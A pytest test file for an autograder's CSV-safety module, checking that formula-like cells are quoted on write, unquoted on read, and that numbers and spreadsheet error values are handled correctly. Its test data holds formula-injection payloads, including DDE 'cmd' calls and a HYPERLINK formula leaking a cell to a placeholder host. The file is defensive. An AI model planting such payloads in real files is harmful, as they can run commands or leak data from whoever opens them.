"""autograder.csvsafe: cells a spreadsheet would run as formulas written with a quote before them, read back
without it, numbers as they are, and the error values a spreadsheet leaves."""

import csv
import io

import pandas as pd
import pytest

from autograder import csvsafe

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?leak="&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-not a number",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
    "+",
    "-inf",
    "-nan",
    "-1,000",
    "'=already quoted",
    "''=twice",
    "'-0.5",
    "'@",
]
ORDINARY = ["", "alice", "Zoë Ñúñez", "李明", "0.75", "1e-3", "a=b", "x - y", "'quoted'", "'", "#hashtag", " =1"]
NUMBERS = ["-0.5", "-0.25", "+1", "+5", "-1e-3", "-1E+3", "-.5", "-5.", "-0", "+0.0"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_like_a_formula_gets_a_quote(start):
    """Is a cell starting with each character a spreadsheet reads as a formula written with `'` before it?"""
    assert csvsafe.neutral(start + "SUM(A1:A9)") == "'" + start + "SUM(A1:A9)"


@pytest.mark.parametrize("number", NUMBERS)
def test_a_number_stays_a_number(number):
    """Is a cell that is a whole finite decimal number (a negative score, an adjustment) written as it is?"""
    assert csvsafe.neutral(number) == number


@pytest.mark.parametrize("value", [-0.5, -0.25, -3, 0, 2.5])
def test_a_python_number_is_written_as_csv_would(value):
    """Is a float or an int written as str() writes it, with no quote?"""
    assert csvsafe.neutral(value) == str(value)


@pytest.mark.parametrize("text", ["-inf", "-nan", "-1,000", "-1-1", "- 1", "+1e", "-0x10", "-1_000", "-١"])
def test_only_finite_decimal_numbers_count_as_numbers(text):
    """Is a minus sign before anything but a finite decimal number (infinity, NaN, thousands separators, other digits)
    quoted like any formula start?"""
    assert csvsafe.neutral(text) == "'" + text


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_text_is_written_as_it_is(text):
    """Is a cell that does not start like a formula (a name, a score, text with = inside) written unchanged?"""
    assert csvsafe.neutral(text) == text


def test_none_is_an_empty_cell():
    """Is None written as an empty cell, as csv.writer writes it?"""
    assert csvsafe.neutral(None) == ""


@pytest.mark.parametrize("text", HOSTILE + ORDINARY + NUMBERS)
def test_undo_gives_back_what_was_written(text):
    """Does undo(neutral(x)) give x back for hostile, quoted and ordinary text alike?"""
    assert csvsafe.undo(csvsafe.neutral(text)) == text


@pytest.mark.parametrize("text", ORDINARY + NUMBERS + ["#NAME?"])
def test_undo_leaves_a_cell_nobody_quoted(text):
    """Is a cell that carries no quote of neutral's read as it is?"""
    assert csvsafe.undo(text) == text


def test_a_quote_before_a_number_is_taken_off():
    """Is `'-0.5` (a number typed as text in a spreadsheet) read as -0.5?"""
    assert csvsafe.undo("'-0.5") == "-0.5"


@pytest.mark.parametrize(
    "value", ["#NAME?", "#VALUE!", "#REF!", "#DIV/0!", "#N/A", "#NUM!", "#NULL!", "#SPILL!", "#CALC!", " #name? "]
)
def test_spreadsheet_error_values_are_recognised(value):
    """Is each error value a spreadsheet writes in place of a failed formula recognised (any case, spaces around)?"""
    assert csvsafe.spreadsheet_error(value)


@pytest.mark.parametrize("value", ["", "#hashtag", "#N/A is fine here", "NAME?", "'#NAME?", None, 1.0])
def test_other_cells_are_no_spreadsheet_error(value):
    """Is text that merely contains an error value's letters, or a non-string, no spreadsheet error?"""
    assert not csvsafe.spreadsheet_error(value)


def test_writer_and_reader_round_trip_every_cell():
    """Does a file written by csvsafe.writer hold no cell a spreadsheet runs, and read back by csvsafe.reader give
    every row as it was (with csv.reader's line numbers)?"""
    rows = [["student", "score", "comment"]] + [[text, "-0.5", text] for text in HOSTILE + ORDINARY]
    buf = io.StringIO()
    csvsafe.writer(buf, lineterminator="\n").writerows(rows)
    raw = list(csv.reader(io.StringIO(buf.getvalue())))
    assert not [cell for row in raw for cell in row if cell[:1] in csvsafe.TRIGGERS and cell != "-0.5"]
    reader = csvsafe.reader(io.StringIO(buf.getvalue()))
    assert next(reader) == rows[0] and reader.line_num == 1
    assert list(reader) == rows[1:]


def test_dict_writer_and_dict_reader_round_trip():
    """Do csvsafe.DictWriter and csvsafe.DictReader write a formula-like value quoted and read it back bare, numbers
    untouched?"""
    buf = io.StringIO()
    writer = csvsafe.DictWriter(buf, fieldnames=["student", "score"], lineterminator="\n")
    writer.writeheader()
    writer.writerows([{"student": "=1+1", "score": -0.5}, {"student": "ann", "score": 1}])
    assert buf.getvalue() == "student,score\n'=1+1,-0.5\nann,1\n"
    assert list(csvsafe.DictReader(io.StringIO(buf.getvalue()))) == [
        {"student": "=1+1", "score": "-0.5"},
        {"student": "ann", "score": "1"},
    ]


def test_a_data_frame_is_quoted_in_its_text_cells_only():
    """Does frame() quote a DataFrame's formula-like text, leave its numbers and missing values, and unframe() take
    the quotes off again?"""
    df = pd.DataFrame({"reason": ["=1+1", "ok", None], "score": [-0.5, 1.0, float("nan")]})
    text = csvsafe.frame(df).to_csv(index=False)
    assert text.splitlines() == ["reason,score", "'=1+1,-0.5", "ok,1.0", ","]
    back = csvsafe.unframe(pd.read_csv(io.StringIO(text), dtype={"reason": str}))
    assert back["reason"].tolist()[:2] == ["=1+1", "ok"] and back["score"].tolist()[:2] == [-0.5, 1.0]
